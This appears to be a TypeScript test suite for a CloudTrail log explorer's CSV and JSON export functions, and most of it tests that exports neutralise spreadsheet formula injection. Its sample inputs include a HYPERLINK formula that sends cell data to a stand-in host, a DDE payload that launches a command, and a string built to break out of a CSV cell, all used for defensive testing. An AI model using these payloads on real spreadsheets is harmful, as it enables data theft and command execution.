import fc from 'fast-check';
import assert from 'node:assert/strict';
import { openLog } from '../../../src/core/eventLog';
import type { CloudTrailEvent } from '../../../src/core/cloudTrailEvent';
import { toCsv, toJsonLines, toRecords } from '../../../src/explorer/exports';
import { sampleEvent } from '../stores/sampleEvents';

const stored = (event: CloudTrailEvent, json = JSON.stringify(event)) => ({ event, json });

/** RFC 4180, read by the book: rows of cells. */
function readCsv(csv: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

function cellsOf(event: CloudTrailEvent): Readonly<Record<string, string>> {
  const [header = [], ...rows] = readCsv(toCsv([stored(event, '')]));
  assert.equal(rows.length, 1, 'the event is not one row');
  assert.equal(rows[0]?.length, header.length);
  return Object.fromEntries(header.map((name, at) => [name, rows[0]?.[at] ?? '']));
}

describe('an event that is nested too deeply', () => {
  it('is a row all the same', () => {
    const json = `{"eventName":"ListUsers","requestParameters":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const cells = cellsOf(JSON.parse(json) as CloudTrailEvent);
    assert.equal(cells['eventName'], 'ListUsers');
    assert.equal(cells['requestParameters'], '[…]');
  });
});

describe('events for other tools', () => {
  const events = [stored(sampleEvent(2)), stored(sampleEvent(1))];

  it('become one log', () => {
    const text = toRecords(events);
    assert.deepEqual(JSON.parse(text), { Records: [sampleEvent(2), sampleEvent(1)] });
    assert.equal(openLog(text)?.count, 2);
    assert.deepEqual(JSON.parse(toRecords([])), { Records: [] });
  });

  it('keep numbers as they were written', () => {
    const json = '{"eventName":"A","size":12345678901234567890.10}';
    const event = JSON.parse(json) as CloudTrailEvent;
    for (const text of [toRecords([stored(event, json)]), toJsonLines([stored(event, json)])])
      assert.ok(text.includes('12345678901234567890.10'), text);
  });

  it('become lines of JSON, whatever white space they were stored with', () => {
    const pretty = stored(sampleEvent(3), JSON.stringify(sampleEvent(3), undefined, 2) + '\r\n');
    const lines = toJsonLines([...events, pretty]).split('\n');
    assert.equal(lines.pop(), '');
    assert.deepEqual(
      lines.map(line => JSON.parse(line) as unknown),
      [2, 1, 3].map(sampleEvent),
    );
  });

  it('become rows of a table', () => {
    const cells = cellsOf({
      ...sampleEvent(1),
      resources: [{ ARN: 'arn:aws:s3:::amzn-s3-demo-bucket' }, { ARN: 'arn:aws:s3:::other' }, 7],
    });
    assert.equal(cells['eventTime'], '2026-01-31T12:01:00Z');
    assert.equal(cells['userIdentity.userName'], 'alice');
    assert.equal(cells['readOnly'], 'false');
    assert.equal(cells['requestParameters'], '{"bucketName":"amzn-s3-demo-bucket","n":1}');
    assert.equal(cells['resources'], 'arn:aws:s3:::amzn-s3-demo-bucket arn:aws:s3:::other');
    assert.equal(cells['responseElements'], '');
  });

  it('are found under the names of today when they are from the early years', () => {
    const cells = cellsOf({ EventName: 'RunInstances', SourceIpAddress: '192.0.2.7' });
    assert.deepEqual([cells['eventName'], cells['sourceIPAddress']], ['RunInstances', '192.0.2.7']);
  });

  for (const formula of [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    `=cmd|' /C calc'!A0`,
  ]) {
    it(`have no formula in a table: ${JSON.stringify(formula)}`, () => {
      const cells = cellsOf({ ...sampleEvent(1), userAgent: formula, errorMessage: formula });
      assert.equal(cells['userAgent'], `'${formula}`);
      assert.equal(cells['errorMessage'], `'${formula}`);
    });
  }

  it('have no formula behind what a spreadsheet skips', () => {
    const skipped = fc.string({
      unit: fc.constantFrom(...' \t\r\n\v\f\0\u00a0\u200b\u2028\u3000\ufeff\u00ad\u180e\u3164'),
      maxLength: 5,
    });
    const sign = fc.constantFrom(...'=+-@|%＝＋－＠');
    fc.assert(
      fc.property(skipped, sign, fc.string(), (before, first, after) => {
        const formula = before + first + after;
        const cells = cellsOf({ ...sampleEvent(1), userAgent: formula });
        assert.equal(cells['userAgent'], `'${formula}`);
        // One apostrophe more, so that one less is always the value.
        const guarded = cellsOf({ ...sampleEvent(1), userAgent: `'${formula}` });
        assert.equal(guarded['userAgent'], `''${formula}`);
      }),
    );
    for (const value of ['7', "it's", 'a=b', "'quoted'", 'arn:aws:iam::111122223333:root'])
      assert.equal(cellsOf({ ...sampleEvent(1), userAgent: value })['userAgent'], value);
  });

  it('cannot leave their cell, nor their row', () => {
    const hostile = 'a","=1+1"\r\n=2+2,"b';
    const cells = cellsOf({ ...sampleEvent(1), userAgent: hostile });
    assert.equal(cells['userAgent'], hostile);
    for (const row of readCsv(toCsv([stored({ ...sampleEvent(1), userAgent: hostile })])))
      for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
  });
});
